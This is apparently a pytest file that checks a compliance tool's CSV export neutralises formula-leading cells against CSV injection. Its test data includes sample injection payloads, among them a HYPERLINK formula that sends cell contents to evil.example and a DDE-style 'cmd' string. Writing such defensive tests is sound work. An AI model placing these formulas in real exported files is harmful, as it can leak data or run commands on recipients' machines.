"""compliance.spreadsheet: formula-leading cells neutralised (OWASP CSV injection), in every CSV written."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import polars as pl
import pytest
from rows import finding_row

from compliance.check import render_findings
from compliance.controls import FINDINGS_SCHEMA
from compliance.spreadsheet import FORMULA_LEADS, neutralise, neutralise_frame, safe_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\uff1d1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_leading_text_gets_a_quote(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    assert payload.startswith(FORMULA_LEADS)


@pytest.mark.parametrize("value", ["emp_0071", "a=b", "", None, -5, 3.5, "'already quoted"])
def test_other_values_are_unchanged(value: object) -> None:
    assert neutralise(value) == value


def test_frames_neutralise_text_lists_and_categoricals_but_not_numbers() -> None:
    frame = pl.DataFrame(
        {
            "text": ["=1+1", "ok"],
            "n": [-1, 2],
            "items": [["@a", "b"], None],
            "cat": pl.Series(["+x", "y"], dtype=pl.Categorical),
        }
    )
    out = neutralise_frame(frame)
    assert out["text"].to_list() == ["'=1+1", "ok"]
    assert out["n"].to_list() == [-1, 2]
    assert out["items"].to_list() == [["'@a", "b"], None]
    assert out["cat"].to_list() == ["'+x", "y"]
    rows = list(csv.reader(io.StringIO(safe_csv(frame.drop("items")))))
    assert rows[1] == ["'=1+1", "-1", "'+x"]


def test_check_csv_findings_are_neutralised() -> None:
    row = finding_row("access.x", "actor:=cmd|' /C calc'!A0", "alarm", "high", reason="-2+3 records",
                      observed_at=datetime(2025, 3, 1), evidence=["@evil"])  # fmt: skip
    findings = pl.DataFrame([row], schema=FINDINGS_SCHEMA)
    rows = list(csv.DictReader(io.StringIO(render_findings(findings, "csv").decode())))
    assert rows[0]["resource"] == "actor:=cmd|' /C calc'!A0"  # starts with a letter: not a formula
    assert rows[0]["reason"] == "'-2+3 records"
    assert rows[0]["evidence"] == '["@evil"]'  # a JSON list starts with [: not a formula
    jsonl = render_findings(findings, "jsonl").decode()
    assert '"-2+3 records"' in jsonl  # JSON Lines carry the value exactly
